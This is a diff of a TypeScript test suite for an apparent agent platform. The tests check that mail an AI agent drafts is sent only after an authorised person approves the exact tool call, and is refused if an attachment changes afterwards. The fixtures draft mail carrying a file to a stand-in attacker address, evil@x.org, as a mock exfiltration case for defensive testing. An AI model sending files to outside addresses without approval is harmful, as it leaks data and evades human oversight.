@@ -73,7 +73,7 @@ inWorld("Mail of an agent to somebody new", (test) => {
     )
     assert.deepStrictEqual(feed, [{ user_id: alice }], "but not the one who is asked for approval")
     assert.match(
-      (yield* Effect.flip(tasks.answer(task.id, "Send", by(mallory)))).message,
+      (yield* Effect.flip(tasks.answer(task.id, "Send", by(mallory), { call: asking.last_tool_call_id }))).message,
       /an approval that only its creator/
     )
 
@@ -92,8 +92,9 @@ inWorld("Mail of an agent to somebody new", (test) => {
     for (const user of [admin, carol, mallory]) yield* users.ensureExists(user)
     yield* query("update users set role = 'admin' where id = $1", [admin])
     for (const [who, right] of [[mallory, false], [alice, true], [carol, true], [admin, true]] as const) {
-      const { id } = yield* works("Write", [mailTo("evil@x.org")], { assignee: carol })
-      for (const send of [tasks.answer(id, "Send", by(who)), tasks.message(id, "Send", by(who))].slice(right ? 1 : 0)) {
+      const { id, last_tool_call_id: call } = yield* works("Write", [mailTo("evil@x.org")], { assignee: carol })
+      const sends = [tasks.answer(id, "Send", by(who), { call }), tasks.message(id, "Send", by(who), { call })]
+      for (const send of sends.slice(right ? 1 : 0)) {
         const refusal = Option.map(
           yield* Effect.option(Effect.flip(Effect.asVoid(send))),
           (error) => error.message
@@ -107,10 +108,10 @@ inWorld("Mail of an agent to somebody new", (test) => {
       if (!right) yield* tasks.cancel(id, Option.none())
     }
     const own = yield* works("Write", [mailTo("evil@x.org")])
-    yield* Effect.ignore(tasks.answer(own.id, "Send", by(mallory)))
+    yield* Effect.ignore(tasks.answer(own.id, "Send", by(mallory), { call: own.last_tool_call_id }))
     assert.deepInclude(yield* settled(own.id), { status: "waiting_input", assignee: null })
     // The operator of a self-hosted service, without a name.
-    yield* tasks.answer(own.id, "Send", Option.none())
+    yield* tasks.answer(own.id, "Send", Option.none(), { call: own.last_tool_call_id })
     assert.strictEqual((yield* settled(own.id)).status, "completed")
     assert.lengthOf(yield* sentBy(own.id), 1)
   })
@@ -160,6 +161,11 @@ inWorld("Mail of an agent to somebody new", (test) => {
     const late = yield* Effect.flip(tasks.answer(first.id, "Send", by(alice), { call: "one" }))
     assert.match(late.message, /it asks another question by now/)
     assert.lengthOf(yield* sentBy(first.id), 1)
+    // Neither does an answer that names none, whatever asks when it arrives.
+    for (const send of [tasks.answer(first.id, "Send", by(alice)), tasks.message(first.id, "send", by(alice))]) {
+      assert.match((yield* Effect.flip(Effect.asVoid(send))).message, /answer it with its tool_call_id/)
+    }
+    assert.lengthOf(yield* sentBy(first.id), 1)
     // Of a channel that can't tell which question it answers.
     yield* tasks.answer(first.id, "Send", by(alice), { approves: false })
     assert.strictEqual((yield* settled(first.id)).status, "completed")
@@ -170,9 +176,9 @@ inWorld("Mail of an agent to somebody new", (test) => {
     const { resultsOf, sentBy, settled, tasks, works } = yield* makeOffice
     const sandbox = yield* Sandbox
     yield* Effect.orDie(sandbox.write(alice, "plan.md", "# Plan"))
-    const { id } = yield* works("Write", [mailTo("evil@x.org", { attachments: ["plan.md"] })])
+    const { id, last_tool_call_id: call } = yield* works("Write", [mailTo("evil@x.org", { attachments: ["plan.md"] })])
     yield* Effect.orDie(sandbox.write(alice, "plan.md", "# Secret"))
-    yield* tasks.answer(id, "Send", by(alice))
+    yield* tasks.answer(id, "Send", by(alice), { call })
     assert.strictEqual((yield* settled(id)).status, "completed")
     assert.match((yield* resultsOf(id)).at(-1) ?? "", /^Error: A file of the mail has changed/)
     assert.deepStrictEqual(yield* sentBy(id), [])
